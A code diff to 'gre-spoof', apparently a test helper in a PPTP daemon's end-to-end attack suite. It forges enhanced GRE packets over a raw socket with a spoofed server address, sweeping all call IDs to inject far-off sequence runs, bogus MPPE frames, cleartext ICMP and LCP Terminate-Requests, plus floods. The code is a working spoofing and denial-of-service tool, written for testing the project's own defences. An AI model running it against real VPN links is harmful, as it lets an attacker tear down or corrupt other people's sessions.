@@ -1,28 +1,34 @@
 /*
- * gre-spoof: a blind attacker on the path's address, for the attack suite
- * (tests/e2e/t_attack.sh).  It sends enhanced GRE with the server's source
- * address to the client, from the server's network namespace, over a raw
+ * gre-spoof: a blind attacker that can send with the server's address,
+ * for the attack suite (tests/e2e/t_attack.sh).  It sends enhanced GRE
+ * from the server's network namespace to the client, over a raw
  * IPPROTO_RAW socket (IP_HDRINCL).  It never reads anything: not pptpcd's
  * state, not the session's traffic.  What it knows is what anyone knows
  * about PPTP: a call ID is 16 bits, sequence numbers start at 1, MPPE
  * carries a 12-bit coherency count, LCP packets are not encrypted.
  *
  * It walks every call ID, 0 to 65535, and sends each the mode's few
- * packets before the next; after 65535 it starts over.  It stops after
- * -c packets, at no more than -r a second, so a run is bounded both ways.
+ * packets before the next; after 65535 it starts over, its runs of
+ * sequence numbers going on where they stopped.  It stops after -c
+ * packets, at no more than -r a second, so a run is bounded both ways.
+ * -i gives it one call ID: an attacker on the path reads the call IDs
+ * in the control connection, but still not the sequence numbers.
  *
  * Modes, and the attack each stands for (issue 9):
- *   gre	runs of agreeing sequence numbers far from the genuine ones
- *		(0x7f00, ahead of any young session by less than 2^15, and
- *		0x80000000, half the circle away): one packet made the
- *		receiver skip to it, three agreeing ones made it follow
+ *   gre	runs of agreeing sequence numbers far from the genuine ones:
+ *		at 0x4000, less than 2^15 ahead of a session that has
+ *		received fewer than 16,384 packets, and at 0x80004000, half
+ *		the circle away.  One packet less than 2^15 ahead made the
+ *		receiver skip to it, three agreeing far ones made it follow
  *	mppe	PPP 0x00FD, stateless flags, random coherency counts and
- *		random ciphertext, in a run at 0x7f00: a count stepped to
- *		and committed without a check desynchronises the receiver
- *	clear	PPP 0x0021, a UDP datagram to the client's tunnel address,
- *		random sequence numbers: plaintext on an encrypted link
+ *		random ciphertext, in runs at 0x4000 and 0xc000: a count
+ *		stepped to and committed without a check desynchronises the
+ *		receiver
+ *	clear	PPP 0x0021, an ICMP Echo-Request from the server's to the
+ *		client's tunnel address, random sequence numbers: plaintext
+ *		on an encrypted link
  *	lcp	LCP Terminate-Requests and Configure-Requests, random
- *		identifiers, in a run at 0x7f00
+ *		identifiers, in runs at 0x4000 and 0xc000
  *	flood	small packets, half ack-only with random acks, half data
  *		with random sequence numbers: packets to calls that do not
  *		exist, at a rate, to see what each costs the receiver
@@ -50,12 +56,16 @@
 #include "ppp_defs.h"
 
 #define IP_HDR_LEN	20
-#define UDP_HDR_LEN	8
+#define ICMP_HDR_LEN	8
+#define ICMP_ECHO_REQUEST 8
+#define ICMP_ID		0x5350	/* "SP" */
 #define PKT_MAX		1600
 #define CALL_IDS	65536
 #define RUN_LEN		4	/* one more than GRE_RESYNC_PKTS today */
-#define SEQ_YOUNG	0x7f00	/* < 2^15 ahead of a session's first 256 */
+#define SEQ_YOUNG1	0x4000	/* < 2^15 ahead of seq 1 to 16,383 */
+#define SEQ_YOUNG2	0xc000	/* < 2^15 ahead of seq 16,385 to 49,151 */
 #define SEQ_HALF	0x80000000u
+#define BASES_MAX	2
 #define PACE_EVERY	64	/* packets between two looks at the clock */
 #define MPPE_FL_A	0x80	/* flushed: every stateless packet */
 #define MPPE_FL_D	0x10	/* encrypted */
@@ -73,9 +83,9 @@ static const struct {
 	unsigned int	 per_call;	/* packets to each call ID in a round */
 } modes[] = {
 	[MODE_GRE] = { "gre", 2 * RUN_LEN },
-	[MODE_MPPE] = { "mppe", RUN_LEN },
+	[MODE_MPPE] = { "mppe", 2 * RUN_LEN },
 	[MODE_CLEAR] = { "clear", 4 },
-	[MODE_LCP] = { "lcp", RUN_LEN },
+	[MODE_LCP] = { "lcp", 2 * RUN_LEN },
 	[MODE_FLOOD] = { "flood", 4 },
 };
 
@@ -85,8 +95,9 @@ struct spoof {
 	struct in_addr	 dst;		/* the client, outer */
 	struct in_addr	 in_src;	/* clear: inner source */
 	struct in_addr	 in_dst;	/* clear: the client's tunnel address */
-	uint16_t	 port;		/* clear: UDP destination port */
-	uint32_t	 base;		/* the far run's first sequence number */
+	uint32_t	 base[BASES_MAX]; /* each run's first sequence number */
+	int		 one_base;	/* -b: a single run (two for gre) */
+	unsigned int	 per_call;	/* packets to each call ID in a round */
 	int		 one_call;	/* -i: only this call ID, else -1 */
 	uint64_t	 count;
 	uint64_t	 rate;
@@ -100,7 +111,7 @@ usage(void)
 	fprintf(stderr, "usage: gre-spoof -m gre|mppe|clear|lcp|flood "
 	    "-s SRC -d DST [-c COUNT] [-r PPS]\n"
 	    "                 [-i CALLID] [-b SEQ] [-t INNER-DST] "
-	    "[-T INNER-SRC] [-p PORT]\n");
+	    "[-T INNER-SRC]\n");
 	exit(2);
 }
 
@@ -176,23 +187,31 @@ mppe_frame(struct wbuf *w)
 	random_bytes(w, 40, 200);
 }
 
-/* IPv4 in clear: a UDP datagram to the client's tunnel address. */
+/*
+ * IPv4 in clear: an ICMP Echo-Request to the client's tunnel address.  If
+ * the client took it, its kernel answers through the tunnel, and the
+ * server's namespace counts an Echo-Reply that nobody asked for.
+ */
 static void
 clear_frame(struct spoof *s, struct wbuf *w)
 {
 	static const char msg[] = "gre-spoof: cleartext inside the call";
-	size_t total = IP_HDR_LEN + UDP_HDR_LEN + sizeof(msg);
-	uint8_t *ip;
+	size_t icmp_len = ICMP_HDR_LEN + sizeof(msg);
+	uint8_t *ip, *icmp;
 
 	ppp_hdr(w, PPP_IP);
-	if ((ip = wbuf_reserve(w, IP_HDR_LEN)) == NULL)
+	if ((ip = wbuf_reserve(w, IP_HDR_LEN)) == NULL ||
+	    (icmp = wbuf_reserve(w, icmp_len)) == NULL)
 		return;
-	ipv4_hdr(ip, total, IPPROTO_UDP, s->in_src, s->in_dst);
-	wbuf_u16(w, 40000);
-	wbuf_u16(w, s->port);
-	wbuf_u16(w, (uint16_t)(UDP_HDR_LEN + sizeof(msg)));
-	wbuf_u16(w, 0);			/* no UDP checksum */
-	wbuf_bytes(w, msg, sizeof(msg));
+	ipv4_hdr(ip, IP_HDR_LEN + icmp_len, IPPROTO_ICMP, s->in_src,
+	    s->in_dst);
+	icmp[0] = ICMP_ECHO_REQUEST;
+	icmp[1] = 0;
+	put_be16(icmp + 2, 0);
+	put_be16(icmp + 4, ICMP_ID);
+	put_be16(icmp + 6, (uint16_t)arc4random());
+	memcpy(icmp + ICMP_HDR_LEN, msg, sizeof(msg));
+	put_be16(icmp + 2, in_cksum(icmp, icmp_len));
 }
 
 /* Terminate-Request (even i) or Configure-Request (odd i). */
@@ -223,11 +242,11 @@ lcp_frame(struct wbuf *w, unsigned int i)
 }
 
 /*
- * The i-th packet of a round for call_id, after the IPv4 header; returns
+ * The i-th packet of round for call_id, after the IPv4 header; returns
  * its length, 0 if it did not fit (never, for these sizes).
  */
 static size_t
-build(struct spoof *s, uint16_t call_id, unsigned int i)
+build(struct spoof *s, uint16_t call_id, unsigned int i, uint32_t round)
 {
 	uint8_t *g = s->pkt + IP_HDR_LEN;
 	struct gre_hdr h;
@@ -239,12 +258,10 @@ build(struct spoof *s, uint16_t call_id, unsigned int i)
 	h.has_seq = 1;
 	switch (s->mode) {
 	case MODE_GRE:
-		h.seq = (i < RUN_LEN ? s->base : s->base + SEQ_HALF) +
-		    i % RUN_LEN;
-		break;
 	case MODE_MPPE:
 	case MODE_LCP:
-		h.seq = s->base + i;
+		/* Each round goes on where the last one stopped. */
+		h.seq = s->base[i / RUN_LEN] + round * RUN_LEN + i % RUN_LEN;
 		break;
 	case MODE_CLEAR:
 		h.seq = arc4random();
@@ -333,8 +350,9 @@ run(struct spoof *s)
 	struct sockaddr_in to;
 	struct timespec pause = { 0, 1000000 };
 	uint64_t sent = 0, refused = 0, n;
-	unsigned int per = modes[s->mode].per_call, i = 0;
+	unsigned int per = s->per_call, i = 0;
 	uint32_t call = s->one_call >= 0 ? (uint32_t)s->one_call : 0;
+	uint32_t round = 0;
 	double t0;
 	size_t len;
 
@@ -343,7 +361,7 @@ run(struct spoof *s)
 	to.sin_addr = s->dst;
 	t0 = now_s();
 	for (n = 0; n < s->count; n++) {
-		if ((len = build(s, (uint16_t)call, i)) == 0)
+		if ((len = build(s, (uint16_t)call, i, round)) == 0)
 			errx(1, "packet does not fit");
 		if (sendto(s->fd, s->pkt, len, 0, (struct sockaddr *)&to,
 		    sizeof(to)) == -1) {
@@ -357,8 +375,10 @@ run(struct spoof *s)
 			sent++;
 		if (++i == per) {
 			i = 0;
-			if (s->one_call < 0)
-				call = (call + 1) % CALL_IDS;
+			if (s->one_call >= 0)
+				round++;
+			else if ((call = (call + 1) % CALL_IDS) == 0)
+				round++;
 		}
 		if (n % PACE_EVERY == PACE_EVERY - 1)
 			pace(n + 1, s->rate, t0);
@@ -401,14 +421,16 @@ main(int argc, char *argv[])
 	s->mode = (enum mode)-1;
 	s->one_call = -1;
 	s->rate = 20000;
-	s->base = SEQ_YOUNG;
-	s->port = 9;
+	s->one_base = 0;
 	address("192.0.2.1", &s->in_src, "-T");
 	address("192.0.2.10", &s->in_dst, "-t");
-	while ((ch = getopt(argc, argv, "b:c:d:i:m:p:r:s:T:t:")) != -1) {
+	while ((ch = getopt(argc, argv, "b:c:d:i:m:r:s:T:t:")) != -1) {
 		switch (ch) {
 		case 'b':
-			s->base = (uint32_t)number(optarg, 0, UINT32_MAX, "-b");
+			s->base[0] = (uint32_t)number(optarg, 0, UINT32_MAX,
+			    "-b");
+			s->base[1] = s->base[0] + SEQ_HALF;
+			s->one_base = 1;
 			break;
 		case 'c':
 			s->count = number(optarg, 1, UINT64_MAX / 2, "-c");
@@ -428,9 +450,6 @@ main(int argc, char *argv[])
 					s->mode = (enum mode)m;
 			if (s->mode == (enum mode)-1)
 				errx(2, "-m: no mode \"%s\"", optarg);
-			break;
-		case 'p':
-			s->port = (uint16_t)number(optarg, 1, 65535, "-p");
 			break;
 		case 'r':
 			s->rate = number(optarg, 1, 10000000, "-r");
@@ -452,9 +471,18 @@ main(int argc, char *argv[])
 	if (argc != optind || s->mode == (enum mode)-1 || !have_src ||
 	    !have_dst)
 		usage();
+	s->per_call = modes[s->mode].per_call;
+	if (!s->one_base) {
+		s->base[0] = SEQ_YOUNG1;
+		s->base[1] = s->mode == MODE_GRE ? SEQ_YOUNG1 + SEQ_HALF :
+		    SEQ_YOUNG2;
+	}
+	/* -b: one run at that base (and one half the circle away for gre). */
+	if (s->one_base)
+		s->per_call = s->mode == MODE_GRE ? 2 * RUN_LEN : RUN_LEN;
 	/* By default one round: every call ID gets the mode's packets once. */
 	if (!have_count)
-		s->count = (uint64_t)modes[s->mode].per_call *
+		s->count = (uint64_t)s->per_call *
 		    (s->one_call >= 0 ? 1 : CALL_IDS);
 	s->fd = open_raw();
 	setvbuf(stdout, NULL, _IOLBF, 0);
